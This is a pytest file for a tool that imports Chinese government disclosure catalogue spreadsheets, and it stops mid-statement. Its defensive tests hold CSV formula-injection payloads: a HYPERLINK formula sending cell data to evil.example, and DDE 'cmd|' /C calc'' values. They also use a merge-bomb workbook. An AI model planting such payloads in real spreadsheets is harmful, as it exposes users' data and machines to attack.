"""`invoke import`: real catalogue tables (the 52-row Haitan CSV, and constructed spreadsheets in
the shapes counties use) come in as valid items; the site's CSV download imports back unchanged."""
from __future__ import annotations

import csv
import io
import subprocess
import sys
from pathlib import Path

import pytest
from conftest import VOCABULARY, load, make_mini_project, registry_project, run_build

from gongkai.errors import format_report
from gongkai.model import Item
from gongkai.table import CSV_COLUMNS, item_row
from gongkai_tools.importer import ImportTableError, import_table
from gongkai_tools.importer.cells import (
    CellError,
    parse_audience,
    parse_channels,
    parse_levels,
    parse_limit,
    parse_method,
    split_basis,
    split_content,
)

REPO = Path(__file__).resolve().parents[1]
FIXTURES = Path(__file__).resolve().parent / "fixtures" / "import"
REAL = REPO / "tests" / "fixtures" / "real" / "haitan-standard-catalogue.csv"

CATEGORIES = """\
# 测试用分类登记表：编辑写的注释必须保留
- 名称: 社会救助
  slug: shehui-jiuzhu
  二级事项:
    - 名称: 最低生活保障
      slug: dibao
    - 名称: 临时救助
      slug: linshi-jiuzhu
# 财政类放在最后
- 名称: 财政信息
  slug: caizheng
  二级事项:
    - 名称: 部门预决算
      slug: yujuesuan
"""
UNITS = """\
# 测试用单位登记表
- 名称: 示例县民政局
  slug: minzheng
  机构代码: 11530000MB0123456X
  审核人: ["@mz-shenhe"]
- 名称: 示例县财政局
  slug: caizheng
  机构代码: 11530000MB0765432Y
  审核人: ["@cz-shenhe"]
"""


def make_project(root: Path) -> Path:
    """Schemas from the repository, small registries of our own, an empty content/items/."""
    return registry_project(root, CATEGORIES, UNITS)


@pytest.fixture
def project(tmp_path) -> Path:
    return make_project(tmp_path / "project")


def validated(root: Path) -> dict:
    """Every item of the project by 事项名称; fails the test with the validator's report if any problem."""
    project = load(root)
    catalogue, problems = project.catalogue, project.file_problems
    assert not problems, format_report(problems)
    return {item.title: item.meta for item in catalogue.items}


def without_date(meta: dict) -> dict:
    return {k: v for k, v in meta.items() if k != "发布日期"}


# ---------------------------------------------------------------- the real 52-row table

def test_real_catalogue_imports_completely_and_validates(project):
    assert REAL.is_file(), f"缺少真实目录表格 {REAL}（tests/fixtures/real/），本测试必须用它"
    report = import_table(REAL, project, date="2024-03-05")
    assert (report.rows, len(report.written), report.unmapped, report.skipped) == (52, 52, [], [])
    items = validated(project)
    assert len(load(project).catalogue.items) == 52
    assert len(items) == 51  # the table's two rows 47 share a name (their files: …调查.md and …调查（2）.md)
    purchase = items["政府采购信息"]
    assert purchase["公开主体"] == "海坛片区管理局"
    assert (purchase["公开渠道"], purchase["渠道说明"]) == (["政府网站", "其他"], "中国政府采购网及其地方分网、福建省公共资源交易电子公共服务平台")
    assert purchase["公开时限"] == {"类型": "即时", "说明": "及时公开"}
    body = (project / "content/items/公共资源交易/政府采购信息.md").read_text(encoding="utf-8")
    assert body.endswith("---\n公开主体：海坛片区管理局或者其委托的采购代理机构。\n")
    assert items["审批核准信息"]["公开对象"] == "特定群体" and items["审批核准信息"]["对象说明"] == "参建单位及相关职能部门"
    assert items["征地补偿安置方案公告"]["对象说明"] == "拟征收土地所在地的村集体成员"
    assert items["特困人员救助供养（特困人员名单及相关信息）"]["二级事项"] == "特困人员救助供养"
    assert items["法制宣传教育"]["一级事项"] == "公共法律服务"
    assert items["乡村建设规划许可证核发"]["公开依据"][1] == \
        "《中共中央办公厅 国务院办公厅印发<关于全面推进政务公开工作的意见>的通知》（中办发〔2016〕8号）"
    assert (project / "content/items/农村集体土地征收/拟征收土地现状调查（2）.md").is_file()
    numbers = sorted(meta["索引号"] for meta in items.values())
    assert numbers[0] == "TEMP-392DF5/2024-00001" and numbers[-1] == "TEMP-392DF5/2024-00052"


def test_real_catalogue_report_lists_registrations(project):
    report = import_table(REAL, project, date="2024-03-05")
    text = report.text()
    assert text.startswith("导入 haitan-standard-catalogue.csv：共 52 行事项，已写入 52 个事项文件，未导入 0 行，已存在未覆盖 0 个。")
    assert "  二级事项“特困人员救助供养”（加在一级事项“社会救助”下）" in text
    assert "  一级事项“扶贫”，二级事项：“行政法规、规章”“规范性文件”“贫困人口识别”“贫困人口退出”“财政专项扶贫资金分配结果”“监督举报”" in text
    assert ("  海坛片区管理局：机构代码 TEMP-392DF5（临时代码：请改为该单位的统一社会信用代码），"
            "审核人 @daizhiding（请改为该单位的审核人）") in text
    units = (project / "schema/units.yaml").read_text(encoding="utf-8")
    assert units.startswith(UNITS) and units.endswith(
        "\n# 2024-03-05 由 invoke import 从 haitan-standard-catalogue.csv 登记\n- 名称: 海坛片区管理局\n"
        "  slug: hai-tan-pian-qu-guan-li-ju\n  机构代码: TEMP-392DF5\n  审核人: [\"@daizhiding\"]\n")
    categories = (project / "schema/categories.yaml").read_text(encoding="utf-8")
    assert "    - 名称: 临时救助\n      slug: linshi-jiuzhu\n    - 名称: 特困人员救助供养\n" \
           "      slug: te-kun-ren-yuan-jiu-zhu-gong-yang\n# 财政类放在最后\n" in categories


def test_real_catalogue_builds(tmp_path):
    """The imported catalogue builds into a site with a page per item (office reviewers from pelicanconf)."""
    root = make_mini_project(tmp_path / "site")
    report = import_table(REAL, root, date="2024-03-05")
    assert len(report.written) == 52 and "审核人 @shilixian-gongkaiban（请改为该单位的审核人）" in report.text()
    build = run_build(root)
    # The publish gate: 索引号 with the temporary code never go live (the address could not be kept).
    assert build.returncode == 1 and "共发现 53 个问题，涉及 53 个文件。" in build.stderr
    assert ("schema/units.yaml:11: 机构代码: “海坛片区管理局”的机构代码 TEMP-392DF5 是 invoke import 生成的临时代码："
            "请改为该单位的统一社会信用代码（它的事项的索引号也要随之改正）") in build.stderr.splitlines()
    assert ("content/items/财政预决算/部门预决算.md:3: 索引号: 索引号“TEMP-392DF5/2024-00006”用的是 invoke import 生成的"
            "临时机构代码 TEMP-392DF5，不能发布：请在 schema/units.yaml 登记该单位的统一社会信用代码，再把索引号改为正式编号"
            "（发布后网页地址由索引号生成，不能再改）") in build.stderr.splitlines()
    for path in [root / "schema/units.yaml", *(root / "content/items").rglob("*.md")]:  # what the editor then does
        path.write_text(path.read_text(encoding="utf-8").replace("TEMP-392DF5", "12350100MB0000000A"), encoding="utf-8")
    build = run_build(root)
    assert build.returncode == 0, build.stdout + build.stderr
    assert len(list((root / "output/items").glob("*/index.html"))) == 52 + 2


# ---------------------------------------------------------------- constructed spreadsheets

def test_single_header_row_with_merged_category_and_unmappable_limit(project):
    report = import_table(FIXTURES / "single-header.xlsx", project, date="2024-03-05")
    items = validated(project)
    assert without_date(items["最低生活保障"]) == {
        "事项名称": "最低生活保障", "索引号": "11530000MB0123456X/2024-00001", "一级事项": "社会救助", "二级事项": "最低生活保障",
        "公开内容": ["低保对象名单", "保障金额", "监督电话"],
        "公开依据": ["《社会救助暂行办法》", "《中共中央办公厅、国务院办公厅关于进一步做好社会救助工作的意见》"],
        "公开时限": {"类型": "即时", "说明": "信息形成或者变更之日起20个工作日内"}, "公开主体": "示例县民政局",
        "公开渠道": ["政府网站", "公示栏"], "公开对象": "全社会", "公开方式": "主动", "公开层级": ["县级", "乡级"]}
    assert items["最低生活保障"]["发布日期"] == "2024-03-05"
    relief = items["临时救助"]
    assert relief["一级事项"] == "社会救助"  # merged cell filled from its top-left value
    assert relief["公开时限"] == {"类型": "定期", "周期": "季度", "说明": "每季度"}
    assert (relief["公开渠道"], relief["公开对象"], relief["对象说明"]) == (["政府网站", "12345热线"], "特定群体", "困难群众及其家属")
    assert (relief["公开方式"], relief["公开层级"]) == ("依申请", ["乡级", "村级"])
    assert items["高龄津贴"]["公开内容"] == ["补贴标准", "申请条件", "办理流程"]
    assert items["高龄津贴"]["公开渠道"] == ["公示栏", "电子屏"]
    assert items["养老机构名录"]["公开时限"] == {"类型": "长期", "说明": "常年公开"}  # 同上
    assert report.unmapped == [("第 7 行（序号 5）", [
        "公开时限“按上级要求”无法按规则归入长期、定期或即时（规则见 README“从现有目录表格迁移”）："
        "请在表格中写明，如“常年公开”“每季度”“信息形成之日起20个工作日内”，再重新导入"])]
    assert not report.ok and "未识别的列" not in report.text()


def test_two_row_header_with_merged_cells_and_group_text(project):
    report = import_table(FIXTURES / "two-row-merged.xlsx", project, date="2024-03-05")
    assert report.ok and len(report.written) == 3
    items = validated(project)
    policy = items["就业创业政策"]
    assert policy["公开依据"] == ["【法律】《中华人民共和国就业促进法》", "【规章】《就业服务与就业管理规定》"]
    assert (policy["公开时限"], policy["公开对象"], policy["公开方式"]) == ({"类型": "即时"}, "全社会", "主动")
    loan = items["创业担保贷款"]
    assert (loan["一级事项"], loan["公开对象"], loan["对象说明"]) == ("就业创业", "特定群体", "创业担保贷款申请人")
    assert (loan["公开渠道"], loan["渠道说明"]) == (["其他"], "中国政府采购网")
    training = items["职业培训补贴"]
    assert (training["对象说明"], training["公开方式"]) == ("参加培训的劳动者", "依申请")
    assert training["公开时限"] == {"类型": "定期", "周期": "半年", "说明": "每半年"}
    assert training["索引号"] == "TEMP-7D5733/2024-00003"


def test_checkbox_columns_for_channels_audience_method_and_levels(project):
    report = import_table(FIXTURES / "checkboxes.xlsx", project, date="2024-03-05")
    assert report.ok
    items = validated(project)
    budget, purchase, subsidy = items["部门预决算"], items["政府采购"], items["惠民补贴"]
    assert (budget["公开渠道"], budget["公开层级"]) == (["政府网站", "纸质媒体"], ["县级"])
    assert (purchase["公开渠道"], purchase["渠道说明"]) == (["政府网站", "其他"], "福建省政府采购网")
    assert purchase["公开层级"] == ["县级", "乡级"]
    assert subsidy["公开渠道"] == ["入户/现场", "公示栏", "电子屏"]
    assert (subsidy["公开对象"], subsidy["对象说明"], subsidy["公开层级"]) == ("特定群体", "补贴对象", ["乡级", "村级"])
    assert budget["索引号"] == "11530000MB0765432Y/2024-00001"
    assert report.new_categories == ["二级事项“政府采购”（加在一级事项“财政信息”下）", "二级事项“惠民补贴”（加在一级事项“财政信息”下）"]


def test_gbk_csv_with_flattened_headers_and_blank_merged_cells(project):
    raw = (FIXTURES / "gbk.csv").read_bytes()
    with pytest.raises(UnicodeDecodeError):
        raw.decode("utf-8")  # the fixture really is GBK
    report = import_table(FIXTURES / "gbk.csv", project, date="2024-03-05")
    assert report.ok
    items = validated(project)
    rent, slums = items["公租房分配"], items["棚户区改造"]
    assert (rent["公开渠道"], rent["公开内容"]) == (["政府网站", "公示栏"], ["分配对象", "分配结果"])
    assert rent["公开依据"] == ["《公共租赁住房管理办法》（住房城乡建设部令第11号）"]
    assert (slums["一级事项"], slums["公开层级"], slums["公开内容"]) == ("住房保障", ["县级", "乡级"], ["改造计划", "改造进度"])


# ---------------------------------------------------------------- round trip

ROUND_TRIP_ITEMS = [
    {"事项名称": "城乡最低生活保障对象名单", "索引号": "11530000MB0123456X/2024-00001", "一级事项": "社会救助",
     "二级事项": "最低生活保障", "公开内容": ["保障对象户主姓名（部分隐去）", "保障人数和月保障金额"],
     "公开依据": ["《社会救助暂行办法》第十条、第十一条", "《中共中央、国务院转发<某某规定>的通知》"],
     "公开时限": {"类型": "即时", "说明": "自该信息形成或者变更之日起20个工作日内"}, "公开主体": "示例县民政局",
     "公开渠道": ["政府网站", "公示栏"], "公开对象": "全社会", "公开方式": "主动", "发布日期": "2024-03-05"},
    {"事项名称": "示例县财政局2024年部门预算", "索引号": "11530000MB0765432Y/2024-00003", "一级事项": "财政信息",
     "二级事项": "部门预决算", "公开内容": ["部门收支总表", "一般公共预算“三公”经费支出表"], "公开依据": ["《中华人民共和国预算法》"],
     "公开时限": {"类型": "定期", "周期": "年度", "说明": "预算批复后20日内"}, "公开主体": "示例县财政局",
     "公开渠道": ["政府网站"], "渠道说明": "示例县预决算公开统一平台", "公开对象": "全社会", "公开方式": "主动",
     "公开层级": ["县级", "乡级"], "文号": "示财〔2024〕12号", "成文日期": "2024-02-08", "发布日期": "2024-02-20"},
    {"事项名称": "临时救助对象名单", "索引号": "11530000MB0123456X/2023-00042", "一级事项": "社会救助", "二级事项": "临时救助",
     "公开内容": ["救助对象；救助金额", "救助事由"], "公开依据": ["《社会救助暂行办法》"], "公开时限": {"类型": "长期"},
     "公开主体": "示例县民政局", "公开渠道": ["公示栏", "其他"], "渠道说明": "乡镇便民服务中心（大厅）",
     "公开对象": "特定群体", "对象说明": "申请人及其家庭成员", "公开方式": "依申请", "公开层级": ["村级"], "发布日期": "2023-06-01"},
    {"事项名称": "低保季度统计", "索引号": "11530000MB0123456X/2024-00002", "一级事项": "社会救助", "二级事项": "最低生活保障",
     "公开内容": ["保障人数"], "公开依据": ["《社会救助暂行办法》"], "公开时限": {"类型": "定期", "周期": "季度"},
     "公开主体": "示例县民政局", "公开渠道": ["政府网站"], "公开对象": "全社会", "公开方式": "主动", "发布日期": "2024-04-10"},
]
ROW_FIELDS = ["事项名称", "索引号", "一级事项", "二级事项", "公开内容", "公开依据", "公开时限", "公开主体", "公开渠道", "渠道说明",
              "公开对象", "对象说明", "公开方式", "公开层级", "文号", "成文日期", "发布日期"]


def site_csv(items: list[Item]) -> bytes:
    """The download exactly as the site writes it (plugins/gongkai/site/data.py): UTF-8 with BOM, CRLF."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\r\n")
    writer.writerow(CSV_COLUMNS)
    for number, item in enumerate(items, start=1):
        writer.writerow(item_row(item, number, f"https://gongkai.example.invalid/{item.url}", VOCABULARY))
    return ("\ufeff" + buffer.getvalue()).encode("utf-8")


def test_site_csv_imports_back_into_identical_items(project, tmp_path):
    items = [Item(f"{i}.md", meta) for i, meta in enumerate(ROUND_TRIP_ITEMS)]
    table = tmp_path / "catalogue.csv"
    table.write_bytes(site_csv(items))
    report = import_table(table, project, date="2025-01-01")
    assert report.ok and len(report.written) == 4 and not report.new_categories and not report.new_units
    imported = validated(project)
    for original in ROUND_TRIP_ITEMS:
        again = imported[original["事项名称"]]
        assert {k: again.get(k) for k in ROW_FIELDS} == {k: original.get(k) for k in ROW_FIELDS}


def test_site_csv_dates_and_document_number_are_columns(project, tmp_path):
    """The download carries 文号, 成文日期 and 发布日期; import reads each row's own 发布日期 (not --date),
    accepts the ways tables write dates, and lists a row whose date is not a date."""
    rows = [item_row(Item("x.md", meta), 1, "", VOCABULARY) for meta in ROUND_TRIP_ITEMS]
    assert [row[CSV_COLUMNS.index("文号"):CSV_COLUMNS.index("索引号")] for row in rows[:2]] == [
        ["", "", "2024-03-05"], ["示财〔2024〕12号", "2024-02-08", "2024-02-20"]]
    items = [Item("0.md", dict(ROUND_TRIP_ITEMS[0], 成文日期="2024年3月1日")),
             Item("1.md", dict(ROUND_TRIP_ITEMS[1], 成文日期="2024/2/30"))]
    table = tmp_path / "catalogue.csv"
    table.write_bytes(site_csv(items))
    report = import_table(table, project, date="2025-01-01")
    assert report.unmapped == [("第 3 行（序号 2）", ["成文日期“2024/2/30”不是有效日期：请写成 2024-03-05 或 2024年3月5日"])]
    again = validated(project)[ROUND_TRIP_ITEMS[0]["事项名称"]]
    assert (again["成文日期"], again["发布日期"]) == ("2024-03-01", "2024-03-05")


def test_limit_cell_keeps_the_type_when_the_note_alone_would_not():
    rows = [item_row(Item("x.md", meta), 1, "", VOCABULARY) for meta in ROUND_TRIP_ITEMS]
    limits = [row[CSV_COLUMNS.index("公开时限")] for row in rows]
    assert limits == ["自该信息形成或者变更之日起20个工作日内", "定期（每年）：预算批复后20日内", "长期公开", "定期（每季度）"]
    assert rows[2][CSV_COLUMNS.index("公开渠道和载体")] == "公示栏、其他（乡镇便民服务中心（大厅））"
    assert rows[2][CSV_COLUMNS.index("公开对象")] == "特定群体（申请人及其家庭成员）"


# ---------------------------------------------------------------- options and safety

def snapshot(root: Path) -> dict:
    return {p.relative_to(root): p.read_bytes() for p in root.rglob("*") if p.is_file()}


def test_dry_run_writes_nothing_and_says_so(project):
    before = snapshot(project)
    report = import_table(FIXTURES / "two-row-merged.xlsx", project, date="2024-03-05", dry_run=True)
    assert snapshot(project) == before
    text = report.text()
    assert "将写入 3 个事项文件" in text and "  content/items/就业创业/职业培训补贴.md" in text
    assert "  示例县人力资源和社会保障局：机构代码 TEMP-7D5733，审核人 @daizhiding" in text
    assert text.endswith("试运行（--dry-run）：以上是将要进行的操作，没有写入或修改任何文件。")


def test_never_overwrites_without_force_and_keeps_index_numbers_with_it(project):
    import_table(FIXTURES / "gbk.csv", project, date="2024-03-05")
    target = project / "content/items/住房保障/公租房分配.md"
    target.write_text(target.read_text(encoding="utf-8") + "编辑补充的正文。\n", encoding="utf-8")
    again = import_table(FIXTURES / "gbk.csv", project, date="2025-01-01")
    assert again.written == [] and again.skipped == ["content/items/住房保障/公租房分配.md", "content/items/住房保障/棚户区改造.md"]
    assert "已存在、未覆盖的文件（确需覆盖请加 --force）：" in again.text()
    assert target.read_text(encoding="utf-8").endswith("编辑补充的正文。\n")
    assert (project / "schema/units.yaml").read_text(encoding="utf-8").count("示例县住房和城乡建设局") == 1
    forced = import_table(FIXTURES / "gbk.csv", project, date="2025-01-01", force=True)
    assert len(forced.written) == 2 and not forced.new_units
    assert validated(project)["公租房分配"]["索引号"] == "TEMP-F811D9/2024-00001"


def test_sequence_continues_after_existing_items_and_code_option_names_new_unit(project):
    existing = project / "content/items/旧/旧事项.md"
    existing.parent.mkdir(parents=True)
    existing.write_text("---\n索引号: 11350000MB1234567A/2024-00007\n---\n", encoding="utf-8")
    report = import_table(FIXTURES / "gbk.csv", project, date="2024-03-05", code="11350000MB1234567A")
    assert "  示例县住房和城乡建设局：机构代码 11350000MB1234567A，审核人 @daizhiding（请改为该单位的审核人）" in report.text()
    existing.unlink()
    existing.parent.rmdir()
    numbers = sorted(meta["索引号"] for meta in validated(project).values())
    assert numbers == ["11350000MB1234567A/2024-00008", "11350000MB1234567A/2024-00009"]


def test_tables_that_cannot_be_read_are_refused_with_the_reason(project, tmp_path):
    old = tmp_path / "目录.xls"
    old.write_bytes(b"\xd0\xcf\x11\xe0")
    with pytest.raises(ImportTableError) as excinfo:
        import_table(old, project)
    assert str(excinfo.value) == "目录.xls：只能导入 .xlsx 或 .csv 文件。如果是 .xls、.et 或 .wps 表格，请在 Excel 或 WPS 中“另存为”.xlsx 后再导入"
    partial = tmp_path / "缺列.csv"
    partial.write_text("序号,一级事项,二级事项,公开内容,公开依据,公开时限,公开主体\n1,社会救助,临时救助,名单,《办法》,每月,示例县民政局\n",
                       encoding="utf-8")
    with pytest.raises(ImportTableError) as excinfo:
        import_table(partial, project)
    assert str(excinfo.value).startswith("缺列.csv：表头缺少这些列：公开渠道、公开对象、公开方式。识别到的列：序号、一级事项")
    with pytest.raises(ImportTableError) as excinfo:
        import_table(FIXTURES / "gbk.csv", project, date="2024-02-30")
    assert str(excinfo.value) == "--date “2024-02-30”不是有效日期，应写成 YYYY-MM-DD，例如 2024-03-05"


def test_blank_and_unknown_header_columns_are_ignored_and_named(project, tmp_path):
    table = tmp_path / "目录.csv"
    table.write_text(
        "序号,一级事项,二级事项,公开内容,公开依据,公开时限,公开主体,公开渠道和载体,公开对象,公开方式,公开层级,,责任科室\n"
        "1,社会救助,临时救助,名单,《办法》,每月,示例县民政局,政府网站,全社会,主动,县级,乡级,救助股\n", encoding="utf-8")
    report = import_table(table, project, date="2024-03-05")
    assert validated(project)["临时救助"]["公开层级"] == ["县级"]
    assert report.notes == ["未识别的列（已忽略）：责任科室"]


def test_rows_with_several_units_or_unknown_words_are_listed_not_guessed(project, tmp_path):
    table = tmp_path / "目录.csv"
    table.write_text(
        "序号,一级事项,二级事项,公开内容,公开依据,公开时限,公开主体,公开渠道和载体,公开对象,公开方式,公开层级\n"
        "1,社会救助,临时救助,名单,《办法》,每月,示例县民政局、各乡镇,政府网站,全社会,主动,县级\n"
        "2,社会救助,临时救助,名单,《办法》,每月,示例县民政局,政府网站,本单位职工,随时,全区\n", encoding="utf-8-sig")
    report = import_table(table, project, date="2024-03-05")
    assert report.written == []
    assert report.unmapped == [
        ("第 2 行（序号 1）", ["公开主体“示例县民政局、各乡镇”写了多个单位，每个事项只能有一个公开主体：请拆成多行，或只保留牵头单位"]),
        ("第 3 行（序号 2）", ["公开对象“本单位职工”无法识别：应为全社会、特定群体（可在括号中写明群体）或内部",
                             "公开方式“随时”无法识别：应为主动或依申请",
                             "公开层级“全区”无法识别：应为省级、市级、县级、乡级、村级（乡镇、街道算乡级，社区算村级）"])]
    assert (project / "schema/categories.yaml").read_text(encoding="utf-8") == CATEGORIES


# ---------------------------------------------------------------- the cell rules

@pytest.mark.parametrize("text, expected", [
    ("自该信息形成或者变更之日起20个工作日内", ("即时", None)),
    ("信息形成20个工作日内公开", ("即时", None)),
    ("20工作日", ("即时", None)),
    ("及时公开，公告期限为5个工作日", ("即时", None)),
    ("实时公开", ("即时", None)),
    ("随时", ("即时", None)),
    ("每季度", ("定期", "季度")),
    ("每季度结束后10个工作日内", ("定期", "季度")),
    ("每月10日前", ("定期", "月度")),
    ("每半年", ("定期", "半年")),
    ("每年1月31日前", ("定期", "年度")),
    ("常年", ("长期", None)),
    ("长期公开", ("长期", None)),
    ("定期（每季度）", ("定期", "季度")),
])
def test_limit_rules(text, expected):
    limit = parse_limit(text, VOCABULARY)
    assert (limit.kind, limit.period) == expected


def test_limit_without_a_rule_is_an_error_with_the_reason():
    with pytest.raises(CellError) as excinfo:
        parse_limit("视情况", VOCABULARY)
    assert str(excinfo.value).startswith("公开时限“视情况”无法按规则归入长期、定期或即时")


def test_basis_splitting():
    assert split_basis("【法律】《甲法》【条例】《乙条例》") == ["【法律】《甲法》", "【条例】《乙条例》"]
    assert split_basis("《甲法》第十条、第十一条") == ["《甲法》第十条、第十一条"]
    assert split_basis("《中共中央、国务院关于甲的意见》、《乙办法》（乙发〔2020〕1\n号）") == \
        ["《中共中央、国务院关于甲的意见》", "《乙办法》（乙发〔2020〕1号）"]
    assert split_basis("《国务院办公厅关于\n推进甲的意见》；《乙法》") == ["《国务院办公厅关于推进甲的意见》", "《乙法》"]
    assert split_basis("1.《甲法》第五十七。\n2.《乙规定》") == ["《甲法》第五十七", "《乙规定》"]


def test_content_splitting():
    assert split_content("1.事项名称；\n2.审批结果；\n3.许可时间\n4.审批单位等") == ["事项名称", "审批结果", "许可时间", "审批单位等"]
    assert split_content("1.办理事项；\n2地点；\n3.联系方式 。") == ["办理事项", "地点", "联系方式"]
    assert split_content("1.办理事项；\n7地点") == ["办理事项", "7地点"]  # a number out of sequence is text
    assert split_content("申请条件；申请材料；办理流程") == ["申请条件", "申请材料", "办理流程"]
    assert split_content("（1）名单（2）金额") == ["名单（2）金额"]  # only "1." style numbering splits a line
    assert split_content("文件名称、文号、发文部门") == ["文件名称、文号、发文部门"]


def test_channel_audience_method_and_level_words():
    assert parse_channels("政府网站\n村（居）公示栏\n两微一端", VOCABULARY) == (["政府网站", "公示栏", "两微一端"], None)
    assert parse_channels("社区/企事业单位/村公示栏(电子屏)、12345政务服务热线", VOCABULARY) == (["公示栏", "电子屏", "12345热线"], None)
    assert parse_channels("福建省公共资源交易电子公共服务平台", VOCABULARY) == (["其他"], "福建省公共资源交易电子公共服务平台")
    assert parse_channels("■政府网站□政府公报■发布会/听证会", VOCABULARY) == (["政府网站", "发布会/听证会"], None)
    assert parse_audience("特定群众（低保对象）") == ("特定群体", "低保对象")
    assert parse_audience("■全社会 □特定群体") == ("全社会", None)
    assert (parse_method("依申请公开"), parse_method("■主动 ■依申请")) == ("依申请", "主动")
    assert parse_levels("乡、村级", VOCABULARY) == ["乡级", "村级"]
    assert parse_levels("县（市、区）级，镇级", VOCABULARY) == ["县级", "乡级"]
    assert parse_levels("", VOCABULARY) == []


# ---------------------------------------------------------------- hostile tables (issue 9), through `invoke import`

from conftest import run_invoke  # noqa: E402


@pytest.fixture
def site(tmp_path) -> Path:
    """A project with tasks.py, so `python3 -m invoke import` runs as an editor runs it."""
    return make_mini_project(tmp_path / "site")


def test_files_that_are_not_tables_give_a_chinese_message_not_a_traceback(site, tmp_path):
    missing, folder = tmp_path / "没有这个文件.xlsx", tmp_path / "目录文件夹.xlsx"
    folder.mkdir()
    cases = [
        (missing, f"{missing}：找不到这个文件。请检查文件名和所在的文件夹（可以把文件拖进命令行窗口，得到完整的路径）"),
        (folder, f"{folder}：这是一个文件夹，不是表格文件。请指定一个 .xlsx 或 .csv 文件"),
        (FIXTURES / "encrypted.xlsx", "encrypted.xlsx：文件设置了打开密码（或是改了扩展名的旧版 .xls 文件），无法读取。"
         "请在 Excel 或 WPS 中取消密码（文件 → 信息 → 保护工作簿）并另存为 .xlsx，再重新导入"),
        (FIXTURES / "not-a-zip.xlsx", "not-a-zip.xlsx：不是有效的 .xlsx 文件（可能已损坏，或是改了扩展名的其他文件）。"
         "请在 Excel 或 WPS 中打开后“另存为”.xlsx，再重新导入"),
    ]
    for path, message in cases:
        done = run_invoke(site, "import", str(path))
        assert (done.returncode, done.stdout, done.stderr) == (1, "", message + "\n"), path


def test_a_merged_range_to_the_end_of_the_sheet_is_clipped_to_the_table(site):
    """<mergeCell ref="C3:XFD1048576"/> in a 5 KB file: 17 billion cells if expanded (openpyxl ran
    out of memory after 105 s). It covers the real cells from C3 on, and no more."""
    assert (FIXTURES / "merge-bomb.xlsx").stat().st_size < 6000
    done = subprocess.run([sys.executable, "-m", "invoke", "import", str(FIXTURES / "merge-bomb.xlsx"), "--dry-run"],
                          cwd=site, capture_output=True, text=True, timeout=120)
    assert done.returncode == 1 and done.stderr == ""
    lines = done.stdout.split("\n")
    assert lines[0] == "导入 merge-bomb.xlsx：共 3 行事项，将写入 1 个事项文件，未导入 2 行，已存在未覆盖 0 个。"
    assert "  content/items/社会救助/最低生活保障.md" in lines
    # C3's value (临时救助) spread over C3:J4, as Excel shows it: rows 3 and 4 are listed, not guessed.
    assert lines[lines.index("未导入的行（请修改表格后重新导入）：") + 1] == (
        "  第 3 行（序号 2）：公开时限“临时救助”无法按规则归入长期、定期或即时（规则见 README“从现有目录表格迁移”）："
        "请在表格中写明，如“常年公开”“每季度”“信息形成之日起20个工作日内”，再重新导入；"
        "公开对象“临时救助”无法识别：应为全社会、特定群体（可在括号中写明群体）或内部；公开方式“临时救助”无法识别：应为主动或依申请")


def test_formulas_import_their_saved_result_or_are_listed(project):
    report = import_table(FIXTURES / "formulas.xlsx", project, date="2024-03-05")
    items = validated(project)
    assert items["临时救助"]["公开依据"] == ["《社会救助暂行办法》"]  # the HYPERLINK's saved result, not the formula
    assert report.unmapped == [("第 4 行（序号 3）", [
        "“公开时限”列是公式，文件中没有保存计算结果：请在 Excel 或 WPS 中打开表格、保存后再重新导入"])]
    written = "".join(p.read_text(encoding="utf-8") for p in (project / "content/items").rglob("*.md"))
    assert "HYPERLINK" not in written and "evil.example" not in written


def test_every_reported_row_arrives_whatever_its_title(site, tmp_path):
    """Titles the build would skip (README, ~$…, .hidden) or Windows cannot create (CON, nul.txt,
    COM1, trailing dots) become file names both keep."""
    titles = ["README", "readme", "~$临时救助", "CON", "nul.txt", "COM1", "Aux.", ".隐藏事项", "普通事项 .", "LPT9"]
    rows = "".join(f"{n},社会救助,临时救助,{t},名单,《社会救助暂行办法》,每季度,示例县民政局,政府网站,全社会,主动\n"
                   for n, t in enumerate(titles, 1))
    table = tmp_path / "目录.csv"
    table.write_text(",".join(HOSTILE_HEADER) + "\n" + rows, encoding="utf-8")
    done = run_invoke(site, "import", str(table), "--date", "2024-03-05")
    assert done.returncode == 0, done.stdout + done.stderr
    assert done.stdout.startswith("导入 目录.csv：共 10 行事项，已写入 10 个事项文件，未导入 0 行")
    names = sorted(p.name for p in (site / "content/items/社会救助").glob("*.md"))
    assert names == sorted(["事项-README.md", "事项-readme.md", "事项-~$临时救助.md", "事项-CON.md", "事项-nul.txt.md",
                            "事项-COM1.md", "事项-Aux.md", "隐藏事项.md", "普通事项.md", "事项-LPT9.md", "低保名单.md"])
    project = load(site)
    catalogue, problems = project.catalogue, project.file_problems
    assert not problems, format_report(problems)
    assert sorted(i.title for i in catalogue.items if i.source.startswith("content/items/社会救助/")) == \
        sorted(titles + ["城乡最低生活保障对象名单"])


HOSTILE_HEADER = ["序号", "一级事项", "二级事项", "事项名称", "公开内容（要素）", "公开依据", "公开时限", "公开主体",
                  "公开渠道和载体", "公开对象", "公开方式"]


def test_too_many_cells_or_columns_are_refused_or_named(project, tmp_path, monkeypatch):
    from gongkai_tools.importer import sheet as tablefile

    table = tmp_path / "宽表.csv"
    row = "1,社会救助,临时救助,宽事项,名单,《社会救助暂行办法》,每季度,示例县民政局,政府网站,全社会,主动"
    table.write_text(",".join(HOSTILE_HEADER) + "\n" + row + "," * 300 + "远处的备注\n", encoding="utf-8")
    report = import_table(table, project, date="2024-03-05", dry_run=True)
    assert report.ok and "第 200 列以后还有 1 个填了内容的单元格，超出导入范围，已忽略" in report.notes
    monkeypatch.setattr(tablefile, "MAX_CELLS", 100)
    with pytest.raises(ImportTableError) as excinfo:
        import_table(table, project)
    assert str(excinfo.value) == "宽表.csv：表格太大（超过 100 个单元格），请拆分成几个文件分批导入"


# ---------------------------------------------------------------- formula injection in the site's CSV (issue 9, critical 5)

FORMULA_VALUES = {
    "事项名称": '=HYPERLINK("https://evil.example/?"&A1,"点击查看详情")',
    "公开内容": ["+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "=1+1"],
    "公开依据": ["-2+3+cmd|' /C calc'!A0", "'=已有引号"],
}


def test_the_sites_csv_never_runs_a_formula_and_imports_back_exactly(tmp_path):
    root = make_mini_project(tmp_path / "site")
    item = root / "content/items/社会救助/低保名单.md"
    text = item.read_text(encoding="utf-8")
    text = text.replace("事项名称: 城乡最低生活保障对象名单", "事项名称: '=HYPERLINK(\"https://evil.example/?\"&A1,\"点击查看详情\")'")
    text = text.replace("  - 保障对象户主姓名（部分隐去）\n  - 保障人数和月保障金额\n",
